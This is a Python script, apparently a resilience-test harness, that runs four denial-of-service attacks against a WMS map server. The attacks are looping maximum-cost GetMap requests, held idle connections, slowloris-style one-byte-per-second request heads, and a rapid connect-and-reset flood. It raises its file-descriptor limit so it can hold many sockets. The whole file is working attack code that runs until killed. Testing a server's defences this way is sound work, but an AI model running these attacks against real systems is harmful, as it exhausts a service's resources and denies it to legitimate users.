#!/usr/bin/python3
"""mallory's attacks, each run until killed (SIGTERM):
  maxcost N   N loops of the costliest GetMap the budget allows, giving up after 3 s
  idle N      N connections opened and held without sending a byte
  slow N      N connections sending their request head one byte per second
              (a refused one retried after 1 s)
  reset       connect and reset (SO_LINGER 0), as fast as possible
"""
import asyncio
import resource
import signal
import socket
import struct
import sys

host, port, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3]
count = int(sys.argv[4]) if len(sys.argv) > 4 else 1
layers = ",".join(["night-lights"] * 4)
maxcost = (f"/wms?SERVICE=WMS&VERSION=1.3.0&REQUEST=GetMap&LAYERS={layers}&STYLES="
           f"&CRS=CRS:84&BBOX=-180,-90,180,90&WIDTH=4096&HEIGHT=4096&FORMAT=image/png")

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, count + 256)), hard))


async def maxcost_loop():
    request = f"GET {maxcost} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()
    while True:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 3)
            writer.write(request)
            await asyncio.wait_for(reader.read(-1), 3)  # curl -m 3
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(0.01)
        try:
            writer.close()
        except Exception:
            pass


async def idle_one(held):
    try:
        reader, writer = await asyncio.open_connection(host, port)
        held.append(writer)
        await reader.read(1)  # until the server closes it
    except OSError:
        pass


async def slow_loop():
    # Held connections are what this attack measures: a connection the server
    # refused at once is retried after a second (a flood is attack "reset"),
    # one it closed after holding it is replaced at once.
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(b"GET /wms HTTP/1.1\r\nHost: x\r\n")
            await writer.drain()
            await asyncio.sleep(0.2)
            if reader.at_eof():
                raise ConnectionResetError
            while True:
                await asyncio.sleep(1)
                writer.write(b"X")
                await writer.drain()
                if reader.at_eof():
                    break
        except OSError:
            await asyncio.sleep(1)


async def reset_loop():
    linger = struct.pack("ii", 1, 0)
    while True:
        s = socket.socket()
        s.setblocking(False)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
        try:
            await asyncio.get_running_loop().sock_connect(s, (host, port))
        except OSError:
            pass
        s.close()


async def main():
    if kind == "maxcost":
        await asyncio.gather(*(maxcost_loop() for _ in range(count)))
    elif kind == "idle":
        held = []
        await asyncio.gather(*(idle_one(held) for _ in range(count)))
        await asyncio.sleep(3600)
    elif kind == "slow":
        await asyncio.gather(*(slow_loop() for _ in range(count)))
    elif kind == "reset":
        await asyncio.gather(*(reset_loop() for _ in range(count)))


signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
asyncio.run(main())
